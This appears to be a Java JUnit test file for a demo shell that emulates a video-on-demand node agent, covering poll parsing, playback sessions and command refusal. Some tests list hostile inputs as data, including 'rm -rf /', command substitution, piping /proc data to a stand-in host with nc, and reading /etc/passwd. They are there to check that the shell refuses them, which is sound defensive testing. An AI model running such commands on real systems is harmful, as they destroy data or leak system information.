package org.voddesk.demo;

import org.voddesk.testing.ManualClock;
import static org.assertj.core.api.Assertions.assertThat;

import java.net.InetSocketAddress;
import java.time.Instant;
import org.junit.jupiter.api.Test;
import org.voddesk.core.Quality;
import org.voddesk.node.proc.ProcParser;
import org.voddesk.node.protocol.AgentCommands;
import org.voddesk.node.protocol.CommandReply;
import org.voddesk.node.protocol.PlayArgs;
import org.voddesk.node.protocol.PollReply;
import org.voddesk.node.protocol.PollScript;
import org.voddesk.node.protocol.ShellWords;
import org.voddesk.node.protocol.VodnodeParser;

class DemoShellTest {
    private static final long HOUR = 3_600_000;
    private final ManualClock clock = new ManualClock(Instant.parse("2026-11-28T10:00:00Z"));
    private final DemoNode model = new DemoNode(DemoNodeConfig.standard("vod-1", 1),
            DemoCatalogue.standard(), clock, "http://127.0.0.1:1");
    private final ServedNode node = new ServedNode(model, new InetSocketAddress("127.0.0.1", 2222), DemoKeys.generate(),
            "vodnode");
    private final DemoShell shell = new DemoShell();

    private ShellResult run(String command) {
        return shell.run(node, command);
    }

    private String playCommand(String session, String camera) {
        long begin = clock.millis() - 2 * HOUR;
        return AgentCommands.play("vodnode", PlayArgs.fresh(session, camera, begin, 1, Quality.MAIN));
    }

    @Test
    void pollScriptAnswersEverySectionInOrder() throws Exception {
        run(playCommand("s1", "cam-001"));

        ShellResult result = run(PollScript.command("vodnode", true));

        PollReply reply = PollScript.parseReply(result.stdout(), true);
        assertThat(result.exitStatus()).isZero();
        assertThat(ProcParser.parse(reply.proc(), 0).memTotalKb()).isEqualTo(16L * 1024 * 1024);
        assertThat(VodnodeParser.parseStatus(reply.status()).sessions()).singleElement()
                .satisfies(s -> assertThat(s.id()).isEqualTo("s1"));
        assertThat(VodnodeParser.parseRecordings(reply.recordings()).segments()).hasSize(80 * 24);
    }

    @Test
    void pollForAnotherAgentStillReportsTheLoadAndMarksTheAgentMissing() throws Exception {
        ShellResult result = run(PollScript.command("/opt/other/vodnode", false));

        PollReply reply = PollScript.parseReply(result.stdout(), false);
        assertThat(reply.procExit()).isZero();
        assertThat(ProcParser.parse(reply.proc(), 0)).isNotNull();
        assertThat(reply.statusExit()).isEqualTo(127);
        assertThat(reply.status()).isEmpty();
        assertThat(result.stderr()).contains("not found");
    }

    @Test
    void agentlessLoadCommandCatsTheProcFiles() throws Exception {
        ShellResult result = run("cat /proc/stat /proc/meminfo /proc/net/dev");

        assertThat(result.exitStatus()).isZero();
        assertThat(ProcParser.parse(result.stdout(), 0).netBytes()).isPositive();
    }

    @Test
    void catOfAnyOtherFileFindsNothing() {
        ShellResult result = run("cat /etc/passwd");

        assertThat(result.exitStatus()).isEqualTo(1);
        assertThat(result.stdout()).isEmpty();
        assertThat(result.stderr()).isEqualTo("cat: /etc/passwd: No such file or directory\n");
    }

    @Test
    void playThenStatusShowsTheSession() throws Exception {
        ShellResult played = run(playCommand("s1", "cam-004"));

        assertThat(VodnodeParser.parseCommandReply(played.stdout()))
                .isEqualTo(new CommandReply.Ok("s1", "http://127.0.0.1:1/vod-1/s1/index.m3u8"));
        assertThat(VodnodeParser.parseStatus(run("'vodnode' 'status'").stdout()).sessions())
                .extracting(s -> s.cameraId()).containsExactly("cam-004");
    }

    @Test
    void refusalsAreErrorRecordsWithExitStatusZeroLikeTheShellAgent() throws Exception {
        ShellResult result = run(AgentCommands.stop("vodnode", "ghost"));

        assertThat(result.exitStatus()).isZero();
        assertThat(VodnodeParser.parseCommandReply(result.stdout()))
                .isInstanceOfSatisfying(CommandReply.Refused.class, r -> assertThat(r.code()).isEqualTo("unknown-session"));
    }

    @Test
    void shellSyntaxIsRefusedBeforeAnythingRuns() {
        for (String hostile : new String[] {"vodnode status; rm -rf /", "vodnode status && id", "echo $(id)",
                "cat /proc/stat | nc evil 1", "vodnode status > /tmp/x", "`id`", "vodnode \"status\""}) {
            ShellResult result = run(hostile);
            assertThat(result.exitStatus()).as(hostile).isEqualTo(2);
            assertThat(result.stdout()).as(hostile).isEmpty();
            assertThat(result.stderr()).as(hostile).startsWith("demo-node: refused:");
        }
    }

    @Test
    void hostileIdsInsideQuotesAreRefusedAsBadArguments() throws Exception {
        for (String camera : new String[] {"; rm -rf /", "$(id)", "it's", "x".repeat(10_000)}) {
            String command = "'vodnode' 'play' '--session' 's1' '--camera' "
                    + ShellWords.quote(camera) + " '--begin' '1'";
            ShellResult result = run(command);
            assertThat(VodnodeParser.parseCommandReply(result.stdout()))
                    .isInstanceOfSatisfying(CommandReply.Refused.class,
                            r -> assertThat(r.code()).isEqualTo("bad-argument"));
        }
        assertThat(model.sessions()).isEmpty();
    }

    @Test
    void unknownOptionsAndMalformedNumbersAreBadArguments() throws Exception {
        for (String command : new String[] {"'vodnode' 'status' '--verbose' 'yes'",
                "'vodnode' 'play' '--session' 's1' '--camera' 'cam-001' '--begin' '-5'",
                "'vodnode' 'play' '--session' 's1' '--camera' 'cam-001' '--begin' '1' '--rate' '1e3'",
                "'vodnode' 'play' '--session' 's1' '--camera' 'cam-001' '--begin' '1' '--quality' 'hd'",
                "'vodnode' 'play' '--session' 's1' '--camera' 'cam-001'",
                "'vodnode' 'rate' '--session' 's1'",
                "'vodnode' 'rate' '--rate' '2' '--session' 's1'",
                "'vodnode' 'stop' '--session'",
                "'vodnode'"}) {
            ShellResult result = run(command);
            assertThat(VodnodeParser.parseCommandReply(result.stdout())).as(command)
                    .isInstanceOfSatisfying(CommandReply.Refused.class,
                            r -> assertThat(r.code()).isEqualTo("bad-argument"));
        }
    }

    @Test
    void unknownVerbIsRefusedAsAnUnknownCommand() throws Exception {
        ShellResult result = run("'vodnode' 'reboot'");

        assertThat(VodnodeParser.parseCommandReply(result.stdout()))
                .isInstanceOfSatisfying(CommandReply.Refused.class,
                        r -> assertThat(r.code()).isEqualTo("unknown-command"));
    }

    @Test
    void otherCommandsAreNotFound() {
        ShellResult result = run("ls /");

        assertThat(result.exitStatus()).isEqualTo(127);
        assertThat(result.stderr()).isEqualTo("sh: 1: ls: not found\n");
    }
}
